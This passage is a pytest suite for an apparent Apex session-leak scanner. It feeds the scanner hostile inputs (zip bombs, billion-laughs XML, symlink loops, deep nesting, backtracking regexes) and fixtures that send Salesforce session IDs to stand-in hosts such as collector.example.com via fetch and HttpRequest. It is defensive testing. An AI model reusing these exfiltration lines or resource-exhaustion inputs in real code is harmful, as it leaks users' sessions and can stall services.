"""Hostile input never knocks a scan over, and never changes what other files report.

Each case puts one kind of hostile file (empty, binary, truncated, not UTF-8, huge, a folder or
a symlink loop where a file should be, a zip bomb, a billion-laughs DTD, absurdly deep Apex)
into a package beside a known-good vulnerable class. The scan must finish within a few seconds,
report the good class exactly as when it is scanned alone, and turn every problem into a
notification that names the hostile file. A few cases go through the command line as CI
would run it: exit code from findings only (never 2), SARIF that passes the shared checker,
and a peak memory that shows nothing was expanded.
"""

from __future__ import annotations

import io
import json
import os
import random
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from apexlint.catalogue import load_catalogue
from apexlint.engine import ScanOptions, scan
from apexlint.findings import ScanResult
from apexlint.ir import FileKind
from apexlint.lower import LoweringJob, lower_job
from apexlint.read.decode import ReadLimits
from apexlint.report import REPORTERS, ReportOptions
from tests.fuzz.inputs import (
    ALL_DEEP_SHAPES,
    BILLION_LAUGHS_SECRET,
    GOOD_CLASS,
    GOOD_REL,
    INLINE_SEEDS,
    MB,
    REPO,
    SFDX_SOURCE,
    big_class,
    billion_laughs,
    deadline,
    deep_apex,
    findings_in,
    internal_errors,
    lying_zips,
    many_member_bomb,
    source_path,
    write_sfdx_package,
    zip_bomb,
)

ZIP_META = (b'<?xml version="1.0" encoding="UTF-8"?>\n<StaticResource xmlns="http://soap.sforce.com/2006/04/metadata">'
            b"<contentType>application/zip</contentType><cacheControl>Private</cacheControl></StaticResource>\n")
SCAN_SECONDS = 20.0  # generous: the slowest case (a 5 MB class) takes about 3 s on one core


def _put(src: Path, rel: str, data: bytes) -> str:
    path = src / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return rel


def _symlink(src: Path, rel: str, target: str) -> str:
    path = src / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    return rel


# -- the cases: each writes into the package's source folder and returns the paths (relative to
# -- that folder) that some notification must name ------------------------------------------------
def empty_files(src: Path) -> list[str]:
    for rel in ("classes/Empty.cls", "triggers/Empty.trigger", "pages/Empty.page", "components/Empty.component",
                "staticresources/empty.js", "staticresources/Empty.resource", "workflows/Empty.workflow-meta.xml",
                "objects/Empty/Empty.object-meta.xml", "email/unfiled/Empty.email",
                "namedCredentials/Empty.namedCredential-meta.xml"):
        _put(src, rel, b"")
    return []


def binary_class(src: Path) -> list[str]:
    rng = random.Random(20240601)
    noise = bytes(rng.randrange(256) for _ in range(64 * 1024))
    return [_put(src, "classes/Binary.cls", b"public class Binary {\x00\x00" + noise)]


def truncated_page(src: Path) -> list[str]:
    page = INLINE_SEEDS["page"]
    cut = page.index(b"$Api.Session_ID", page.index(b"<apex:outputLink")) + 4  # inside a merge field
    return [_put(src, "pages/Cut.page", page[:cut])]


def latin1_trigger(src: Path) -> list[str]:
    text = ("trigger Latin on Account (before insert) {\n    String note = 'café, déjà vu, Größe';\n"
            "    System.debug(UserInfo.getSessionId());\n}\n")
    return [_put(src, "triggers/Latin.trigger", text.encode("latin-1"))]


def generated_5mb_class(src: Path) -> list[str]:
    data = big_class(5 * MB)
    assert len(data) >= 5 * MB
    _put(src, "classes/Generated.cls", data)
    return []


def ten_mb_single_lines(src: Path) -> list[str]:
    line = b"public class OneLine { String s = '" + b"x" * (10 * MB) + b"'; }"
    minified = b"var a=" + b"[1,2,3]," * (10 * MB // 8) + b"0;"
    return [_put(src, "classes/OneLine.cls", line), _put(src, "staticresources/app.min.js", minified)]


def million_comment_lines(src: Path) -> list[str]:
    _put(src, "classes/Comments.cls", b"// c\n" * 1_000_000 + b"public class Comments {}\n")
    return []


def directory_named_like_a_class(src: Path) -> list[str]:
    (src / "classes" / "Folder.cls").mkdir(parents=True)
    _put(src, "classes/Folder.cls/notes.txt", b"not Apex")
    return ["classes/Folder.cls"]


def broken_symlink(src: Path) -> list[str]:
    return [_symlink(src, "classes/Gone.cls", "Nowhere.cls")]


def symlink_loops(src: Path) -> list[str]:
    return [_symlink(src, "classes/loop", "."), _symlink(src, "classes/Ping.cls", "Pong.cls"),
            _symlink(src, "classes/Pong.cls", "Ping.cls")]


def special_files(src: Path) -> list[str]:
    (src / "classes").mkdir(parents=True, exist_ok=True)
    os.mkfifo(src / "classes" / "Pipe.cls")  # opening it for reading would block forever
    _symlink(src, "classes/Zero.cls", "/dev/zero")  # reading it never ends
    return []


def zip_bomb_resource(src: Path) -> list[str]:
    _put(src, "staticresources/bomb.resource-meta.xml", ZIP_META)
    return [_put(src, "staticresources/bomb.resource", zip_bomb())]


def many_member_zip(src: Path) -> list[str]:
    return [_put(src, "staticresources/parts.resource", many_member_bomb())]


def lying_zip_headers(src: Path) -> list[str]:
    named = []
    for name, data in sorted(lying_zips().items()):
        rel = _put(src, f"staticresources/{name}.resource", data)
        if name != "compressed-size-past-end":  # zipfile reads this one correctly: nothing to report
            named.append(rel)
    return named


def billion_laughs_xml(src: Path) -> list[str]:
    _put(src, "workflows/Laugh.workflow-meta.xml", billion_laughs())
    _put(src, "objects/Laugh/Laugh.object-meta.xml", billion_laughs().replace(b"Workflow", b"CustomObject"))
    return []


def undecodable_file_name(src: Path) -> list[str]:
    # bytes 0xFF 0xFE are not UTF-8: the path holds them as lone surrogates, which every
    # fingerprint, cache key and report must take (AE-1: the rules that fingerprint a finding
    # there failed, and took every other file's findings of those rules with them)
    raw = b"public class Raw {\n    public static void m() { System.debug(UserInfo.getSessionId()); }\n}\n"
    _put(src, os.fsdecode(b"classes/Raw\xff\xfe.cls"), raw)
    return []


def deep_apex_class(shape: str) -> Callable[[Path], list[str]]:
    def build(src: Path) -> list[str]:
        _put(src, "classes/Deep.cls", deep_apex(shape))
        return []
    return build


@dataclass(frozen=True)
class Case:
    build: Callable[[Path], list[str]]
    internal_error_ok: bool = False  # a known bug, contained here and reported by an xfail below


CASES: dict[str, Case] = {
    "empty-files": Case(empty_files),
    "binary-class": Case(binary_class),
    "truncated-page": Case(truncated_page),
    "latin1-trigger": Case(latin1_trigger),
    "generated-5mb-class": Case(generated_5mb_class),
    "10mb-single-lines": Case(ten_mb_single_lines),
    "million-comment-lines": Case(million_comment_lines),
    "directory-named-like-a-class": Case(directory_named_like_a_class),
    "broken-symlink": Case(broken_symlink),
    "symlink-loops": Case(symlink_loops),
    "fifo-and-device": Case(special_files),
    "zip-bomb": Case(zip_bomb_resource),
    "many-member-zip": Case(many_member_zip),
    "lying-zip-headers": Case(lying_zip_headers),
    "billion-laughs": Case(billion_laughs_xml),
    "undecodable-file-name": Case(undecodable_file_name),
    **{f"deep-apex-{shape}": Case(deep_apex_class(shape), internal_error_ok=True) for shape in ALL_DEEP_SHAPES},
}


def _package(root: Path, case: Case | None, good: bool = True) -> tuple[Path, list[str]]:
    root = write_sfdx_package(root, {GOOD_REL: GOOD_CLASS.read_bytes()} if good else {})
    named = case.build(root / SFDX_SOURCE) if case else []
    return root, [f"{SFDX_SOURCE}/{rel}" for rel in named]


def _scan(root: Path) -> tuple[ScanResult, float]:
    start = time.perf_counter()
    result = scan(ScanOptions(paths=(root,), root=root, jobs=1))
    return result, time.perf_counter() - start


@pytest.fixture(scope="module")
def good_alone(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[object, ...]]:
    root, _ = _package(tmp_path_factory.mktemp("alone"), None)
    findings = findings_in(_scan(root)[0], GOOD_REL)
    assert findings, "the good class must have findings for the comparison to mean anything"
    return findings


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_file_leaves_the_good_class_and_the_scan_intact(
        name: str, tmp_path: Path, good_alone: list[tuple[object, ...]]) -> None:
    root, named = _package(tmp_path / "pkg", CASES[name])
    result, seconds = _scan(root)
    assert seconds < SCAN_SECONDS, f"scan took {seconds:.1f} s"
    assert findings_in(result, GOOD_REL) == good_alone
    noted = {n.path for n in result.notifications}
    assert not [p for p in named if p not in noted], f"no notification names {named}; got {sorted(noted - {None})}"
    if not CASES[name].internal_error_ok:
        assert not internal_errors(result.notifications), internal_errors(result.notifications)


def test_a_non_utf8_trigger_is_still_analysed(tmp_path: Path) -> None:
    root, _ = _package(tmp_path / "pkg", Case(latin1_trigger), good=False)
    result, _ = _scan(root)
    trigger = f"{SFDX_SOURCE}/triggers/Latin.trigger"
    assert [(f.rule_id, f.location.span.start_line) for f in result.findings if f.location.path == trigger] \
        == [("SID003", 3)]


def test_a_class_whose_file_name_is_not_utf8_is_reported_in_every_format(tmp_path: Path) -> None:
    root, _ = _package(tmp_path / "pkg", Case(undecodable_file_name), good=False)
    result, _ = _scan(root)
    name = os.fsdecode(b"Raw\xff\xfe.cls")
    assert [(f.rule_id, f.location.span.start_line) for f in result.findings
            if f.location.path.endswith(name)] == [("SID003", 2)]
    rules = load_catalogue()
    for fmt, reporter in sorted(REPORTERS.items()):
        out = io.StringIO()
        reporter.render(result, rules, out, ReportOptions(color=False, tool_version="0"))
        out.getvalue().encode("utf-8")  # what the command line writes: no lone surrogate left
        assert "Raw" in out.getvalue(), fmt


def test_a_file_timeout_that_ends_at_once_is_a_notification_not_an_escaped_exception(tmp_path: Path) -> None:
    # AE-4: a limit shorter than arming the timer ended inside `setitimer`, before the `try`
    # that turns it into a notification, and the whole scan stopped with an internal error
    job = LoweringJob(GOOD_REL, FileKind.APEX_CLASS, GOOD_CLASS.read_bytes(), "acme", None)
    for _ in range(50):
        lowered = lower_job(job, ReadLimits(), timeout=1e-6)
        assert lowered.files or [n.code for n in lowered.notifications] == ["file-timeout"]
    root, _ = _package(tmp_path / "pkg", None)
    result = scan(ScanOptions(paths=(root,), root=root, jobs=1, file_timeout=1e-6))
    assert {n.code for n in result.notifications} <= {"file-timeout", "analysis-timeout"}


def test_a_class_in_a_token_shaped_folder_reports_the_same_with_a_cache_as_without(tmp_path: Path) -> None:
    # AE-6: the cache keeps the analysis redacted, and the finished findings' snippets were
    # looked up under the redacted path: found without a cache, missing with one
    folder = "00D5g000004ABCD!AQ4AQFakeTokenValue1234567890abcdef"
    raw = b"public class Tk {\n    public static void m() { System.debug(UserInfo.getSessionId()); }\n}\n"
    root = write_sfdx_package(tmp_path / "pkg", {f"{SFDX_SOURCE}/{folder}/Tk.cls": raw})
    plain = scan(ScanOptions(paths=(root,), root=root, jobs=1))
    cached = scan(ScanOptions(paths=(root,), root=root, jobs=1, cache_dir=tmp_path / "cache"))
    assert [f.location.snippet for f in plain.findings] == ["System.debug(UserInfo.getSessionId())"]
    assert cached.findings == plain.findings
    assert cached.contexts == plain.contexts


def test_a_token_in_apex_that_does_not_parse_is_a_sid009_finding_once(tmp_path: Path) -> None:
    """AE-11: a token bare in a class body, or in a literal left unterminated, is in no comment and
    no literal lowering reaches; one in a literal that error recovery still lowers is reported once."""
    token = "00D5g000004ABCD!AQ4AQFakeTokenValue1234567890abcdef"
    root = write_sfdx_package(tmp_path / "pkg", {
        source_path("Bare.cls"): f"public class Bare {{ {token} }}\n".encode(),
        source_path("Open.cls"): f"public class Open {{ void m() {{ String s = '{token}; }}\n".encode(),
        source_path("Both.cls"): f"public class Both {{ void m() {{ String s = '{token}'; x = ; }} }}\n".encode()})
    result = scan(ScanOptions(paths=(root,), root=root, jobs=1))
    found = sorted((f.location.path.rpartition("/")[2], f.rule_id) for f in result.findings)
    assert found == [("Bare.cls", "SID009"), ("Both.cls", "SID009"), ("Open.cls", "SID009")]
    assert {n.code for n in result.notifications} == {"parse-error"}
    assert token not in repr(result)


def test_billion_laughs_is_never_expanded(tmp_path: Path) -> None:
    root, _ = _package(tmp_path / "pkg", Case(billion_laughs_xml), good=False)
    result, seconds = _scan(root)
    everything = repr(result)
    assert seconds < 5.0
    assert "lollol" not in everything
    assert BILLION_LAUGHS_SECRET not in everything
    # `<includeSessionId>&t;</includeSessionId>` reads "true" only if the DTD were honoured
    assert not [f for f in result.findings if f.rule_id == "SID005"]


def test_a_session_in_a_file_skipped_for_a_long_line_still_ends_in_a_verdict(tmp_path: Path) -> None:
    """SPEC: every retrieval ends in a verdict. A minified script over the line limit is not
    parsed; each session it names is SID011 (review by hand), where it is, and a token is SID009."""
    filler = "var a=1;" * 130_000  # 1,040,000 characters on one line
    sends = "window.open('https://partner.example/x?sid='+sforce.connection.sessionId);"
    token = "var t='00D000000000001!AQ" + "x" * 90 + "';"
    files = {f"{SFDX_SOURCE}/staticresources/Grid.js": (filler + sends + token).encode(),
             f"{SFDX_SOURCE}/classes/Gen.cls": ("public class Gen { String s = '" + "x" * 1_000_001 + "'; "
                                 "void f() { String sid = UserInfo.getSessionId(); } }").encode(),
             f"{SFDX_SOURCE}/classes/Quiet.cls": ("public class Quiet { String s = '" + "x" * 1_000_001
                                                  + "'; }").encode()}
    root = write_sfdx_package(tmp_path / "pkg", files)
    result, _ = _scan(root)
    found = sorted((f.location.path.rpartition("/")[2], f.rule_id, f.location.span.start_col) for f in result.findings)
    assert found == [("Gen.cls", "SID011", 1_000_069), ("Grid.js", "SID009", 1_040_082),
                     ("Grid.js", "SID011", 1_040_046)]
    message = next(f.message for f in result.findings if f.rule_id == "SID011")
    assert "did not analyse (line 1 is longer than 1,000,000 characters" in message
    assert {n.path.rpartition("/")[2] for n in result.notifications if n.code == "line-too-long"} \
        == {"Grid.js", "Gen.cls", "Quiet.cls"}
    assert "AQxxxx" not in repr(result)  # the token is redacted as everywhere


@pytest.mark.parametrize("shape", ALL_DEEP_SHAPES)
def test_deeply_nested_apex_is_lowered_and_keeps_its_other_findings(shape: str) -> None:
    lowered = lower_job(LoweringJob("classes/Deep.cls", FileKind.APEX_CLASS, deep_apex(shape), ""), ReadLimits())
    assert not internal_errors(lowered.notifications), internal_errors(lowered.notifications)
    assert [s.span.start_line for f in lowered.files for s in f.sources] == [3]


def test_a_long_else_if_chain_is_one_level_deep_and_read_to_its_end(tmp_path: Path) -> None:
    """Generated code maps hundreds of codes with `if … else if …` (triage AD-9, a country list of
    250): a chain, not nesting; a session used in its last branch is found, with no note."""
    branches = "".join(f"        else if (code == 'C{i}') {{ out = 'Country {i}'; }}\n" for i in range(1, 300))
    (tmp_path / "classes").mkdir()
    (tmp_path / "classes" / "CountryNames.cls").write_text(
        "public with sharing class CountryNames {\n    public static String name(String code) {\n"
        "        String out;\n        if (code == 'C0') { out = 'Country 0'; }\n" + branches +
        "        else { System.debug('unknown ' + code + UserInfo.getSessionId()); }\n"
        "        return out;\n    }\n}\n", encoding="utf-8")
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    assert [(f.rule_id, f.location.span.start_line) for f in result.findings] == [("SID003", 304)]
    assert not [n for n in result.notifications if n.code == "nesting-too-deep"]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
def test_a_small_zip_of_scripts_cannot_cost_more_than_a_few_seconds() -> None:
    job = LoweringJob("staticresources/parts.resource", FileKind.STATIC_RESOURCE, many_member_bomb(script=True), "",
                      "StaticResource", "application/zip")
    with deadline(2.0):
        lowered = lower_job(job, ReadLimits())
    assert "archive-budget" in {n.code for n in lowered.notifications}


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
@pytest.mark.parametrize(("kind", "path", "wrap"), [
    (FileKind.STATIC_RESOURCE, "staticresources/deep.js", lambda body: body),
    (FileKind.JAVASCRIPT, "aura/Deep/DeepController.js",
     lambda body: "({ init: function (component, event, helper) {\n" + body + "}})\n"),
], ids=["static resource", "Aura controller"])
def test_functions_called_where_written_nested_deeply_lower_in_linear_time(
        kind: FileKind, path: str, wrap: Callable[[str], str]) -> None:
    """`(function () {…})()` inside another, 400 deep (module wrappers, bundlers): each level's
    call walked what it wraps, and then the walk as written walked it again, so level n was walked
    n times: 7.9 s for two files of 200 and 400 levels, which the per-file time limit would cut
    short, losing the file's findings."""
    n = 400
    body = ("(function () {\n" * n + "var s = sforce.connection.sessionId;\n"
            "fetch('https://collector.example.com/c?sid=' + s);\n" + "})();\n" * n)
    job = LoweringJob(path, kind, wrap(body).encode(), "", "StaticResource" if kind == FileKind.STATIC_RESOURCE else "",
                      "application/javascript" if kind == FileKind.STATIC_RESOURCE else "")
    with deadline(2.0):
        lowered = lower_job(job, ReadLimits())
    assert [(u.sink, u.in_query) for f in lowered.files for u in f.url_uses] == [("fetch", True)]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
def test_deeply_nested_visualforce_markup_lowers_in_linear_time() -> None:
    page = b"<apex:page>" + b"<div>" * 10_000 + b"{!$Api.Session_ID}" + b"</div>" * 10_000 + b"</apex:page>"
    with deadline(2.0):
        lowered = lower_job(LoweringJob("pages/Deep.page", FileKind.VISUALFORCE_PAGE, page, ""), ReadLimits())
    assert [len(f.sources) for f in lowered.files] == [1]



@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
@pytest.mark.parametrize(("kind", "markup"), [
    (FileKind.VISUALFORCE_PAGE, b"<apex:page>" + b"<!--" * 12_000 + b"</apex:page>"),
    (FileKind.VISUALFORCE_PAGE, b"<apex:page>" + b"<![CDATA[" * 12_000 + b"</apex:page>"),
    (FileKind.VISUALFORCE_COMPONENT, b"<apex:component>" + b"<apex:attribute " * 8_000 + b"</apex:component>"),
    (FileKind.VISUALFORCE_PAGE, b"<apex:page>" + b'<div class="x" ' * 40_000 + b"</apex:page>"),
], ids=["unclosed comments", "unclosed CDATA", "unended attribute tags", "40,000 unended tags"])
def test_unclosed_markup_repeated_lowers_in_linear_time(kind: FileKind, markup: bytes) -> None:
    """Each shape ran every opener to the end of the file (AE-13): in tree-sitter's HTML scanner
    and in regular expressions, C code the file time limit cannot interrupt. 40,000 unclosed
    comments held a scan for 88 s; at 12,000 each shape took several seconds."""
    suffix = ".page" if kind == FileKind.VISUALFORCE_PAGE else ".component"
    with deadline(2.0):
        lowered = lower_job(LoweringJob(f"pages/Hostile{suffix}", kind, markup, ""), ReadLimits())
    assert len(lowered.files) == 1 and not internal_errors(lowered.notifications)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
def test_metadata_xml_that_never_closes_its_elements_is_not_parsed_but_its_sessions_are_reported() -> None:
    """100,000 `<a>` never closed (300 KB) held the XML grammar for 28 s, growing with the square
    of the depth, in C code the file time limit cannot interrupt: such a file is left unparsed,
    with a notification, and the session it names still ends in a verdict (read by hand)."""
    xml = (b"<?xml version='1.0'?><CustomObject>" + b"<a>" * 100_000
           + b"<formula>'x' + $Api.Session_ID</formula></CustomObject>")
    with deadline(2.0):
        lowered = lower_job(LoweringJob("objects/Deep.object-meta.xml", FileKind.METADATA, xml, "", "CustomObject"),
                            ReadLimits())
    assert [n.code for n in lowered.notifications] == ["nesting-too-deep"]
    assert "100,000 elements are never closed" in lowered.notifications[0].message
    [form] = lowered.files
    assert [(s.text, s.context) for s in form.sources] == [
        ("$Api.Session_ID", "not analysed (100,000 elements are never closed)")]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
def test_markup_nested_past_what_can_be_parsed_is_not_parsed_but_its_sessions_are_reported() -> None:
    """Closed elements nested 40,000 deep took the HTML grammar 6 s and the XML one 18 s."""
    for rel, kind, markup in (
            ("pages/Deep.page", FileKind.VISUALFORCE_PAGE,
             b"<apex:page>" + b"<div>" * 40_000 + b"{!$Api.Session_ID}" + b"</div>" * 40_000 + b"</apex:page>"),
            ("objects/Deep.object-meta.xml", FileKind.METADATA,
             b"<CustomObject>" + b"<a>" * 40_000 + b"$Api.Session_ID" + b"</a>" * 40_000 + b"</CustomObject>")):
        with deadline(2.0):
            lowered = lower_job(LoweringJob(rel, kind, markup, "", None), ReadLimits())
        assert [n.message for n in lowered.notifications] == [
            "not parsed: elements are nested over 16,000 deep; the sessions and tokens it names are still reported"]
        assert [len(f.sources) for f in lowered.files] == [1]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
def test_metadata_with_many_unclosed_cdata_sections_lowers_in_linear_time() -> None:
    """The XML grammar ran each of 40,000 unclosed `<![CDATA[` to the end of the file: 63 s."""
    xml = b"<?xml version='1.0'?><CustomObject><formula>$Api.Session_ID</formula>" + b"<![CDATA[" * 40_000
    with deadline(2.0):
        lowered = lower_job(LoweringJob("objects/Cdata.object-meta.xml", FileKind.METADATA, xml, "", "CustomObject"),
                            ReadLimits())
    assert [len(f.sources) for f in lowered.files] == [1] and not internal_errors(lowered.notifications)


def test_a_session_in_metadata_too_deep_to_parse_is_reported_for_review_by_hand(tmp_path: Path) -> None:
    (tmp_path / "objects").mkdir()
    (tmp_path / "objects" / "Deep.object").write_bytes(
        b"<?xml version='1.0'?><CustomObject>" + b"<a>" * 20_000 + b"<formula>$Api.Session_ID</formula></CustomObject>")
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    assert [n.code for n in result.notifications] == ["nesting-too-deep"]
    [finding] = result.findings
    assert finding.rule_id == "SID011" and finding.message.endswith(
        "is in a file apexlint did not analyse (20,000 elements are never closed): review what it does with the "
        "session by hand"), finding.message


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
def test_a_redaction_pattern_that_backtracks_without_end_does_not_stop_the_scan(tmp_path: Path) -> None:
    """A `replaceAll` pattern that names the session's place is run on the value's text (Y-6): one
    that backtracks exponentially, `(a|a)*b` after a run of `a`, took the scan past a minute. Such a
    pattern is not run, and the session stays where it was (SID003)."""
    write_sfdx_package(tmp_path, {source_path("Hostile.cls"): (
        "public with sharing class Hostile {\n"
        "    public static void run() {\n"
        f"        String body = '<sessionId>{'a' * 40}' + UserInfo.getSessionId() + '</sessionId>';\n"
        "        System.debug(body.replaceAll('(?i)sessionId>(a|a)*b', 'X'));\n"
        "        System.debug(body.replaceAll('(?i)sessionId>a*a*a*a*b', 'X'));\n"
        "    }\n"
        "}\n").encode()})
    with deadline(10.0):
        result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    assert sorted((f.rule_id, f.location.span.start_line) for f in result.findings) == [("SID003", 4), ("SID003", 5)]


@pytest.mark.parametrize(("pattern", "run"), [
    ("(?i)(?<=<apex:sessionId>).*(?=</apex:sessionId>)", True),
    ("(?<=<apex:sessionId>)[^<]*", True),
    ("<sessionId>.*?</sessionId>", True),
    ("(?i)(?<=sid=)[^&]*", True),
    ("(?i)sessionId", True),
    ("(?i)sessionId>(a|a)*b", False),  # a repeat of a group
    ("(?i)session(x+)+y", False),
    ("sid=a*a*b", False),  # two repeats
    ("(sid)\\1", False),  # a back-reference
    ("(?<=sessionId", False),  # not a pattern
])
def test_only_a_redaction_pattern_with_one_repeat_of_one_character_is_run(pattern: str, run: bool) -> None:
    from apexlint.analyses.values import _linear
    assert _linear(pattern) is run


def test_a_redaction_pattern_that_parses_but_does_not_compile_keeps_the_session() -> None:
    """`(?<=sessionId=a*)b` parses, and has one repeat, but a look-behind needs a fixed width."""
    from apexlint.analyses.values import SESSION, redaction_removes
    assert redaction_removes("(?<=sessionId=a*)b", "X", frozenset({("sessionId=", SESSION)})) is False

def test_deeply_nested_components_rendered_false_lower_in_linear_time() -> None:
    """Each `rendered="false"` is looked for where it is written, not from the root down."""
    panel = b'<apex:outputPanel rendered="false">'
    page = b"<apex:page>" + panel * 5_000 + b"{!$Api.Session_ID}<c:Token/>" + b"</apex:outputPanel>" * 5_000 \
        + b"</apex:page>"
    with deadline(2.0):
        lowered = lower_job(LoweringJob("pages/Deep.page", FileKind.VISUALFORCE_PAGE, page, ""), ReadLimits())
    ((source,),) = [f.sources for f in lowered.files]
    assert source.context == 'not rendered (<apex:outputPanel rendered="false">)'
    assert [(p.emits_session, p.embeds) for f in lowered.files for p in f.pages] == [(False, ())]


# -- through the command line, as CI runs it -----------------------------------------------------
CLI_CASES = ("empty-files", "binary-class", "truncated-page", "latin1-trigger", "directory-named-like-a-class",
             "broken-symlink", "symlink-loops", "fifo-and-device", "zip-bomb", "many-member-zip",
             "lying-zip-headers", "billion-laughs", "deep-apex-parentheses")
RSS_LIMIT_MB = 400  # a zip bomb or entity expansion would need far more than this
# Runs the CLI and records the process's peak RSS in KiB. VmHWM belongs to the process image, so
# it starts afresh at exec; ru_maxrss would carry over the high-water mark of the forked pytest.
_RUNNER = """import os, re, resource, sys
from apexlint.cli import main
try:
    main(sys.argv[1:])
finally:
    try:
        with open('/proc/self/status') as status:
            peak = re.search(r'VmHWM:\\s*(\\d+)', status.read()).group(1)
    except (OSError, AttributeError):
        peak = str(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
    with open(os.environ['APEXLINT_TEST_RSS'], 'w') as out:
        out.write(peak)
"""


def checker_path() -> Path | None:
    """The shared strict checker: $APEXLINT_SARIF_CHECK, else ../shared/tools beside the repo."""
    env = os.environ.get("APEXLINT_SARIF_CHECK")
    path = Path(env) if env else REPO.parent / "shared" / "tools" / "sarif_check.py"
    return path if path.is_file() else None


def _cli(cwd: Path, *args: str) -> tuple[subprocess.CompletedProcess[str], int]:
    """Run `apexlint ARGS` in `cwd`; the completed process and its peak RSS in MB."""
    rss_file = cwd / ".rss"
    env = {**os.environ, "PYTHONPATH": str(REPO), "APEXLINT_TEST_RSS": str(rss_file), "NO_COLOR": "1"}
    proc = subprocess.run([sys.executable, "-c", _RUNNER, *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=120, check=False)
    rss_mb = int(rss_file.read_text()) // 1024 if rss_file.exists() else 0
    return proc, rss_mb


def _hostile_package(root: Path, good: bool) -> tuple[Path, list[str]]:
    """Every cheap case in one package; the paths to name, relative to the package's parent (the cwd)."""
    root = write_sfdx_package(root, {GOOD_REL: GOOD_CLASS.read_bytes()} if good else {})
    named: list[str] = []
    for name in CLI_CASES:
        named.extend(f"{root.name}/{SFDX_SOURCE}/{rel}" for rel in CASES[name].build(root / SFDX_SOURCE))
    return root, named


def _notification_uris(sarif: dict[str, object]) -> set[str]:
    invocation = sarif["runs"][0]["invocations"][0]  # type: ignore[index]
    return {loc["physicalLocation"]["artifactLocation"]["uri"]
            for n in invocation["toolExecutionNotifications"] for loc in n.get("locations", [])}


def _expected_exit(levels: list[str]) -> int:
    """SPEC: 1 when a finding is at or above the default --fail-on (error), else 0; never 2 for bad files."""
    return 1 if "error" in levels else 0


def test_cli_scan_of_hostile_files_reports_them_as_notifications_in_valid_sarif(tmp_path: Path) -> None:
    _, named = _hostile_package(tmp_path / "pkg", good=True)
    proc, rss_mb = _cli(tmp_path, "scan", "pkg", "--format", "sarif", "-o", "out.sarif", "--no-cache", "-q")
    assert "Traceback" not in proc.stderr
    text = (tmp_path / "out.sarif").read_text(encoding="utf-8")
    run = json.loads(text)["runs"][0]
    active = [r["level"] for r in run["results"] if not r.get("suppressions")]
    assert proc.returncode == _expected_exit(active) == 1, proc.stderr
    assert run["invocations"][0]["executionSuccessful"] is True
    missing = [p for p in named if p not in _notification_uris(json.loads(text))]
    assert not missing, f"SARIF notifications do not name {missing}"
    assert "lollol" not in text and BILLION_LAUGHS_SECRET not in text
    assert rss_mb < RSS_LIMIT_MB, f"peak RSS {rss_mb} MB"
    checker = checker_path()
    if checker is None:
        pytest.skip("sarif_check.py not found: set APEXLINT_SARIF_CHECK or keep ../shared/tools beside the repo")
    check = subprocess.run([sys.executable, str(checker), "out.sarif", "--src", "."], cwd=tmp_path,
                           capture_output=True, text=True, timeout=120, check=False)
    assert check.stdout.strip().endswith("0 problems"), check.stdout + check.stderr


def test_cli_exit_code_of_a_package_of_only_bad_files_follows_its_findings(tmp_path: Path) -> None:
    _hostile_package(tmp_path / "pkg", good=False)
    proc, rss_mb = _cli(tmp_path, "scan", "pkg", "--format", "json", "-o", "out.json", "--no-cache", "-q")
    assert "Traceback" not in proc.stderr
    report = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    active = [f["level"] for f in report["findings"] if not f.get("suppression")]
    assert proc.returncode == _expected_exit(active), proc.stderr
    assert report["summary"]["executionSuccessful"] is True
    assert report["notifications"], "the bad files are reported as notifications"
    assert rss_mb < RSS_LIMIT_MB, f"peak RSS {rss_mb} MB"


def test_a_lower_case_boolean_receiver_is_valid_apex(tmp_path: Path) -> None:
    """`boolean.valueOf(x)` (Apex names are case-blind) is no parse error, in a body lowered
    with its file or later; what follows it is analysed."""
    cls = """public with sharing class Flags {
    public static Boolean read(String raw) {
        Boolean on = boolean.valueOf(raw);
        return on && boolean .valueOf('true');
    }
    public static void send() {
        Boolean on = boolean.valueOf('true');
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://collector.example.com/in');
        req.setHeader('X-Session', UserInfo.getSessionId());
        new Http().send(req);
    }
}
"""
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/Flags.cls": cls.encode()})
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    assert result.notifications == ()
    assert [(f.rule_id, f.location.span.start_line) for f in result.findings] == [("SID002", 11)]


def test_valid_apex_the_grammar_refuses_is_read_without_a_parse_note(tmp_path: Path) -> None:
    """The old trigger keyword `bulk`, and SOQL date-times with `+0000` or fractional seconds
    before an offset (accepted by the platform's lexer), parse; what follows them is analysed."""
    trigger = ("trigger CaseSync on Case bulk (after insert) {\n"
               "    System.debug('sync ' + UserInfo.getSessionId());\n}\n")
    cls = """public with sharing class SurveyDates {
    public static List<Case> recent() {
        List<Case> a = [SELECT Id FROM Case WHERE CreatedDate >= 2014-09-28T00:00:00.000+0000];
        List<Case> b = [SELECT Id FROM Case WHERE CreatedDate >= 2024-01-01T12:00:00.0000+00:00];
        List<Case> c = [SELECT Id FROM Case WHERE CreatedDate >= 2014-09-28T00:00:00+0000];
